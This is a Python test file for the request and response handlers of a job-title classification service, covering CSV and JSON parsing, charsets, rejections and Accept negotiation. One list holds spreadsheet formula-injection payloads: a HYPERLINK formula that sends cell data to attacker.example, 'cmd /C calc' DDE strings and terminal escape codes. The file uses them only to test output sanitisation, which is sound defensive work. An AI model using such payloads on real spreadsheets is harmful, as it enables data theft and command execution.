"""inference: the serving handlers: request parsing, predict_fn and response encoding."""

from __future__ import annotations

import csv
import importlib.util
import io
import json

import pytest
import steps_fixtures as fx

from pipeline_steps import inference, known_titles
from pipeline_steps import model as model_lib
from pipeline_steps.soc import MAJOR_GROUPS


@pytest.fixture(scope="module")
def model():
    rows = fx.etl_rows()
    titles, labels = rows["title_normalized"], rows["major_group"]
    # Calibrated on its own rows: these tests are about the handlers, not the probabilities.
    fitted = model_lib.calibrate(model_lib.fit(model_lib.Hyperparameters(), titles, labels), titles, labels)
    known = known_titles.KnownTitles.from_rows(titles, labels, [1.0] * len(titles))
    return known_titles.KnownTitleClassifier(fitted, known)


# ------------------------------------------------------------------ input_fn


@pytest.mark.parametrize(
    "body, content_type",
    [
        ('{"titles": ["Nurse", "Chef"]}', "application/json"),
        (b'["Nurse", "Chef"]', "application/json"),
        ('\ufeff["Nurse", "Chef"]'.encode("utf-8"), "application/json; charset=utf-8"),
        (b'["Nurse", "Chef"]', None),
        ("title\nNurse\nChef\n", "text/csv"),
        ("id,Title,extra\n1,Nurse,x\n2,Chef,y\n\n", "text/csv"),
        ("Nurse\nChef", "text/csv"),
        (b"Nurse\r\nChef\r\n", "text/csv; charset=utf-8"),
    ],
)
def test_input_fn_reads_titles(body, content_type):
    assert inference.input_fn(body, content_type) == (["Nurse", "Chef"], [None, None])


def test_csv_without_header_keeps_commas_and_unquotes_single_fields():
    body = 'Manager, Sales\n"Director, Operations"\n\nCook\n\n'
    assert inference.input_fn(body, "text/csv").titles == ["Manager, Sales", "Director, Operations", "", "Cook"]


def test_a_headerless_quoted_title_may_span_lines_and_is_one_record():
    body = '"Line\nCook"\n"Sous ""Chef"""\nBaker\n'
    assert inference.input_fn(body, "text/csv").titles == ["Line\nCook", 'Sous "Chef"', "Baker"]


def test_a_csv_record_with_more_or_fewer_fields_than_the_header_is_rejected_not_cut(model):
    """Issue 25: `1,Manager, Sales` under `id,title` was answered for "Manager"."""
    request = inference.input_fn("id,title\n1,Manager, Sales\n2\n3,\n\n4,Chef\n", "text/csv")
    # The record as it was read stands for its title: nothing of it is dropped.
    assert request == (["1,Manager, Sales", "2", "", "Chef"], ["wrong_field_count", "wrong_field_count", None, None])
    records = inference.predict_fn(request, model)
    assert [(r["title"], r["major_group"], r["rejection_reason"]) for r in records] == [
        ("1,Manager, Sales", None, "wrong_field_count"),
        ("2", None, "wrong_field_count"),
        ("", None, "empty_title"),
        ("Chef", "35", None),
    ]


@pytest.mark.parametrize(
    ("body", "content_type", "titles"),
    [
        (b"title\nCaf\xe9 Cook\n", "text/csv; charset=latin-1", ["Caf\xe9 Cook"]),
        (b"title\nCaf\xe9 Cook\n", 'text/csv; charset="ISO-8859-1"', ["Caf\xe9 Cook"]),
        ("title\nCaf\xe9 Cook\n".encode("utf-16"), "text/csv; charset=utf-16", ["Caf\xe9 Cook"]),
        (b'["Caf\xe9 Cook"]', "application/json; charset=latin-1", ["Caf\xe9 Cook"]),
        (b"title\nCaf\xe9 Cook\n", "text/csv", ["Caf\ufffd Cook"]),  # UTF-8 when none is declared
    ],
)
def test_the_declared_charset_decodes_the_body(body, content_type, titles):
    assert inference.input_fn(body, content_type).titles == titles


def test_json_nulls_pass_through_for_rejection():
    assert inference.input_fn('{"titles": [null, ""]}', "application/json").titles == [None, ""]


@pytest.mark.parametrize(
    "body, content_type, message, status",
    [
        ("{not json", "application/json", "not valid JSON", 400),
        ('{"title": "x"}', "application/json", '"titles"', 400),
        ('"Nurse"', "application/json", "list of strings", 400),
        ('["Nurse", 3]', "application/json", r"titles\[1\] is int", 400),
        ("Nurse", "application/x-npy", "unsupported content type", 415),
        (b"title\nNurse\n", "text/csv; charset=klingon", "unsupported charset 'klingon'", 415),
        ("[" * 100_000 + "]" * 100_000, "application/json", "nests 100000 levels deep; at most 32", 400),
        ('{"titles": ["Nurse"], "meta": ' + "[" * 40 + "]" * 40 + "}", "application/json", "nests 41 levels", 400),
        ('title\n"Nurse\n', "text/csv", r"CSV body cannot be parsed \(record 2\)", 400),
        ("id,title,Title\n1,Nurse,Chef\n", "text/csv", "names the title column 2 times", 400),
    ],
)
def test_read_titles_refuses_bad_requests_with_their_status(body, content_type, message, status):
    with pytest.raises(inference.RequestError, match=message) as refused:
        inference.read_titles(body, content_type)
    assert refused.value.status_code == status


def test_a_refused_request_travels_to_output_fn_which_raises_it_outside_the_container(model):
    """The serving container answers whatever a handler raises with 500 (tests/runtime/ shows it), so
    input_fn and predict_fn hand the refusal on; without sagemaker_containers, output_fn raises it."""
    assert importlib.util.find_spec("sagemaker_containers") is None  # .venv is not the image
    refusal = inference.input_fn("Nurse", "application/x-npy")
    assert isinstance(refusal, inference.UnsupportedContentType)
    assert inference.predict_fn(refusal, model) is refusal
    with pytest.raises(inference.UnsupportedContentType) as raised:
        inference.output_fn(refusal, "application/json")
    assert raised.value is refusal and raised.value.status_code == 415


def test_bad_bytes_and_nul_become_undecodable_titles(model):
    titles = inference.input_fn(b"Nurse\n\xff\xfeChef\nCo\x00ok\n", "text/csv")
    records = inference.predict_fn(titles, model)
    assert [r["rejection_reason"] for r in records] == [None, "undecodable_title", "undecodable_title"]


# ------------------------------------------------------------------ predict_fn


def test_predict_fn_answers_each_title_in_order(model):
    titles = ["Registered Nurse", "", "   ", "x" * 201, "1234", "Truck Driver", None, "Night Charge Nurse RN"]
    records = inference.predict_fn(titles, model)
    assert [r["title"] for r in records] == titles
    assert [r["rejection_reason"] for r in records] == [
        None,
        "empty_title",
        "empty_title",
        "title_too_long",
        "title_without_letters",
        None,
        "empty_title",
        None,
    ]
    for record in records:
        assert set(record) == {
            "title",
            "major_group",
            "major_group_title",
            "confidence",
            "top3",
            "rejection_reason",
            "answered_by",
        }
        if record["rejection_reason"]:
            assert record["major_group"] is None and record["confidence"] is None and record["top3"] == []
            assert record["answered_by"] is None
            continue
        top3 = record["top3"]
        # A title the training data lists under one group is that group, certain; another, the model's top 3.
        known = record["title"] in ("Registered Nurse", "Truck Driver")
        assert record["answered_by"] == ("known_title" if known else "model")
        assert [t["probability"] for t in top3] == ([1.0] if known else [t["probability"] for t in top3])
        assert len(top3) == (1 if known else 3)
        assert [t["probability"] for t in top3] == sorted((t["probability"] for t in top3), reverse=True)
        assert record["major_group"] == top3[0]["major_group"]
        assert record["confidence"] == top3[0]["probability"]
        assert record["major_group_title"] == MAJOR_GROUPS[record["major_group"]]
        assert all(t["major_group_title"] == MAJOR_GROUPS[t["major_group"]] for t in top3)
        assert 0 < sum(t["probability"] for t in top3) <= 1.000001
    # Titles the model was trained on come back in their group.
    assert records[0]["major_group"] == "29" and records[5]["major_group"] == "53"


def test_predict_fn_with_no_titles(model):
    assert inference.predict_fn([], model) == []


# ------------------------------------------------------------------ output_fn


@pytest.mark.parametrize(
    "accept",
    [
        "application/json",
        "*/*",
        None,
        "",
        "application/json; charset=utf-8",
        "text/html, application/json",
        "text/csv;q=0.5, application/json",
        "application/*",
        "text/csv;q=0, */*",
        "application/json, text/csv",
    ],
)
def test_output_fn_json(model, accept):
    records = inference.predict_fn(["Chef", ""], model)
    body, content_type = inference.output_fn(records, accept)
    assert content_type == "application/json"
    assert json.loads(body) == {"predictions": records}


def test_output_fn_csv(model):
    records = inference.predict_fn(["Chef, Sous", "", 'The "Boss"'], model)
    body, content_type = inference.output_fn(records, "text/csv")
    assert content_type == "text/csv"
    rows = list(csv.DictReader(io.StringIO(body)))
    assert [r["title"] for r in rows] == ["Chef, Sous", "", 'The "Boss"']
    assert rows[1]["major_group"] == "" and rows[1]["top3"] == "" and rows[1]["rejection_reason"] == "empty_title"
    assert json.loads(rows[0]["top3"]) == records[0]["top3"]
    assert float(rows[0]["confidence"]) == records[0]["confidence"]


# Issue 14, item 1: what a spreadsheet would run or a terminal would obey, as titles and ids.
INJECTIONS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "Nurse;=1+1",
    "\x1b[31mRed\x1b[0m Nurse",
    "\x9b2J Chef",
    "-",
    "'Til Death",
]


def test_output_fn_csv_protects_cells_and_json_stays_raw(model, original_cell):
    titles = [*INJECTIONS, "Registered Nurse"]
    records = inference.predict_fn(titles, model)
    body, _ = inference.output_fn(records, "text/csv")
    rows = list(csv.DictReader(io.StringIO(body)))
    assert [row["title"][0] for row in rows[:-1]] == ["'"] * len(INJECTIONS)
    assert rows[-1]["title"] == "Registered Nurse"
    assert [original_cell(row["title"]) for row in rows] == titles
    assert "\x1b" not in body and "\x9b" not in body
    assert len(body.splitlines()) == len(titles) + 1  # every row one line: line breaks are escaped too
    json_body, _ = inference.output_fn(records, "application/json")
    assert [p["title"] for p in json.loads(json_body)["predictions"]] == titles


@pytest.mark.parametrize(
    "accept",
    [
        "text/csv",
        "application/json;q=0, text/csv",
        "text/*",
        "application/json;q=0.2, text/csv;q=0.9",
        "application/json;q=0, */*",
    ],
)
def test_output_fn_csv_when_accept_prefers_it(model, accept):
    """Issue 25: `application/json;q=0, text/csv` got JSON; q-values count (RFC 9110)."""
    _, content_type = inference.output_fn(inference.predict_fn(["Chef"], model), accept)
    assert content_type == "text/csv"


@pytest.mark.parametrize("accept", ["application/json;q=0", "application/json;q=0, text/*;q=0", "*/*;q=0", "image/png"])
def test_output_fn_refuses_an_accept_that_rules_out_both_types(model, accept):
    with pytest.raises(inference.UnsupportedAccept, match="Accept") as refused:
        inference.output_fn([], accept)
    assert refused.value.status_code == 406


def test_output_fn_refuses_unsupported_accept(model):
    with pytest.raises(inference.UnsupportedAccept, match="Accept") as refused:
        inference.output_fn([], "application/x-protobuf")
    assert refused.value.status_code == 406
